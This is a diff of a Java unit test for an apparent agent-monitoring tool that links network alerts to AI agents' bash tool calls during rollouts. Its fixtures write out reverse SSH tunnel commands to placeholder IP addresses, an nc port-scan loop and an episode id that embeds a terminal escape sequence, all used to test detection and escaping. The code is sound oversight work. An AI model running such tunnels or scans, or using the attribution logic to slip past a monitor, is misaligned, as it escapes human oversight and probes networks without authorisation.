@@ -2,6 +2,7 @@ package io.vigil.tools.demo;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.vigil.models.agents.EpisodeAttribution;
 import io.vigil.records.AgentCall;
 import io.vigil.records.AgentEpisode;
 import io.vigil.records.Alert;
@@ -10,7 +11,9 @@ import io.vigil.records.IncidentState;
 import io.vigil.records.Printable;
 import io.vigil.records.Reason;
 import io.vigil.records.TransitionCause;
+import java.util.HashSet;
 import java.util.List;
+import java.util.Set;
 import org.junit.jupiter.api.Test;
 
 /** The demo's alert lines, without the demo: what they say, and that ids from data reach the terminal escaped. */
@@ -70,33 +73,99 @@ class DemoLinesTest {
                         .build()))
                 .build();
 
-        assertThat(Demo.behind(open, null))
-                .isEqualTo("       behind it: episode ep-1207\\u001b[2J on rollout-3, step 14: bash"
+        assertThat(Demo.behind(open, new HashSet<>()))
+                .containsExactly("       behind it: episode ep-1207\\u001b[2J on rollout-3, step 14: bash"
                         + " `ssh -f -N -R 2222:localhost:22 agent@203.0.113.9` (tool call started 1.8 s before the first"
                         + " packet to 203.0.113.9:22; command names 203.0.113.9; command contains ssh -R)");
         assertThat(Demo.behind(
                         Fixtures.alertBuilder()
                                 .setIncidentState(IncidentState.OPEN)
                                 .build(),
-                        null))
-                .isNull();
+                        new HashSet<>()))
+                .isEmpty();
         assertThat(Demo.behind(
                         Alert.newBuilder(open)
                                 .setIncidentState(IncidentState.CLOSE)
                                 .build(),
-                        null))
+                        new HashSet<>()))
                 .as("a CLOSE says what it was, not again what began it")
-                .isNull();
+                .isEmpty();
         Alert update = Alert.newBuilder(open)
                 .setIncidentState(IncidentState.UPDATE)
                 .setTransitionCauses(List.of(TransitionCause.ONGOING))
                 .build();
-        assertThat(Demo.behind(update, "ep-1207\u001b[2J"))
+        Set<String> told = new HashSet<>();
+        Demo.behind(open, told);
+        assertThat(Demo.behind(update, told))
                 .as("an update that names the episode told before says nothing again")
-                .isNull();
-        assertThat(Demo.behind(update, "ep-benign"))
+                .isEmpty();
+        assertThat(Demo.behind(update, new HashSet<>(Set.of("ep-benign"))))
                 .as("an update that names a new episode by its commands says so")
-                .startsWith("       behind it: episode ep-1207");
+                .singleElement()
+                .satisfies(line -> assertThat(line).startsWith("       behind it: episode ep-1207"));
+    }
+
+    /**
+     * A call reported when it ended, after the transition whose packet it preceded was told, is said to be behind
+     * the incident by the transition that names it, after what that transition is about, and by a CLOSE too; once.
+     */
+    @Test
+    void aCallNamedLateGetsALineUnderTheTransitionThatNamesIt() {
+        AgentEpisode tunnel = episode(
+                "ep-tunnel",
+                "ssh -f -N -R 9000:localhost:22 ubuntu@203.0.113.145",
+                "tool call started 0.3 s before the first packet to 203.0.113.145:22; command contains ssh -R");
+        AgentEpisode scan = EpisodeAttribution.reportedLate(episode(
+                "ep-scan",
+                "for h in $(seq 1 254); do nc -z",
+                "tool call started 0.8 s after the first packet to 10.244.2.1:22; command contains a raw socket tool"));
+        Alert joined = Fixtures.alertBuilder()
+                .setIncidentState(IncidentState.UPDATE)
+                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
+                .setAgentContext(List.of(tunnel, scan))
+                .build();
+        Set<String> told = new HashSet<>();
+
+        List<String> lines = Demo.behind(joined, told);
+        assertThat(lines)
+                .extracting(line -> line.substring(0, line.indexOf(" on ")))
+                .containsExactly("       behind it: episode ep-tunnel", "       behind it: episode ep-scan");
+        assertThat(lines.get(1)).endsWith("reported when it ended, after the transition of that anchor was told)");
+        assertThat(Demo.behind(
+                        Alert.newBuilder(joined)
+                                .setIncidentState(IncidentState.CLOSE)
+                                .setTransitionCauses(List.of(TransitionCause.QUIET))
+                                .build(),
+                        told))
+                .as("told once")
+                .isEmpty();
+        assertThat(Demo.behind(
+                        Alert.newBuilder(joined)
+                                .setIncidentState(IncidentState.CLOSE)
+                                .setTransitionCauses(List.of(TransitionCause.QUIET))
+                                .setAgentContext(List.of(scan, tunnel))
+                                .build(),
+                        new HashSet<>(Set.of("ep-tunnel"))))
+                .as("a CLOSE tells a call named late")
+                .singleElement()
+                .satisfies(line -> assertThat(line).startsWith("       behind it: episode ep-scan"));
+    }
+
+    private static AgentEpisode episode(String id, String command, String reason) {
+        return AgentEpisode.newBuilder()
+                .setEpisodeId(id)
+                .setRolloutWorker("rollout-7")
+                .setReason(reason)
+                .setCalls(List.of(AgentCall.newBuilder()
+                        .setStep(0L)
+                        .setTool("bash")
+                        .setCommand(command)
+                        .setStartTs(Fixtures.BEGINNING)
+                        .setEndTs(Fixtures.BEGINNING)
+                        .setExitCode(0)
+                        .setReason(reason)
+                        .build()))
+                .build();
     }
 
     /** A call named only for starting near the packet is said to be that, and a later update names no such call. */
@@ -119,14 +188,16 @@ class DemoLinesTest {
                 .setAgentContext(List.of(near))
                 .build();
 
-        assertThat(Demo.behind(open, null))
-                .startsWith("       nearest call in time (its command says nothing of it): episode ep-7");
+        assertThat(Demo.behind(open, new HashSet<>()))
+                .singleElement()
+                .satisfies(line -> assertThat(line)
+                        .startsWith("       nearest call in time (its command says nothing of it): episode ep-7"));
         assertThat(Demo.behind(
                         Alert.newBuilder(open)
                                 .setIncidentState(IncidentState.UPDATE)
                                 .setTransitionCauses(List.of(TransitionCause.ONGOING))
                                 .build(),
-                        null))
-                .isNull();
+                        new HashSet<>()))
+                .isEmpty();
     }
 }
